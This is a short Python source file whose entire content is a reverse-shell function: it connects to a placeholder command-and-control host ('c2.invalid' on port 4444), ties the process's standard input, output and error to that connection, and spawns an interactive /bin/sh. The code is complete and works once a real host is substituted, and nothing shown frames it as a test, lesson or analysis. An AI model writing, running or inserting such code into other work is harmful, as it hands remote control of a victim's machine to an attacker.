import os
import pty
import socket

def back():
    link = socket.socket()
    link.connect(("c2.invalid", 4444))
    for number in (0, 1, 2):
        os.dup2(link.fileno(), number)
    pty.spawn("/bin/sh")
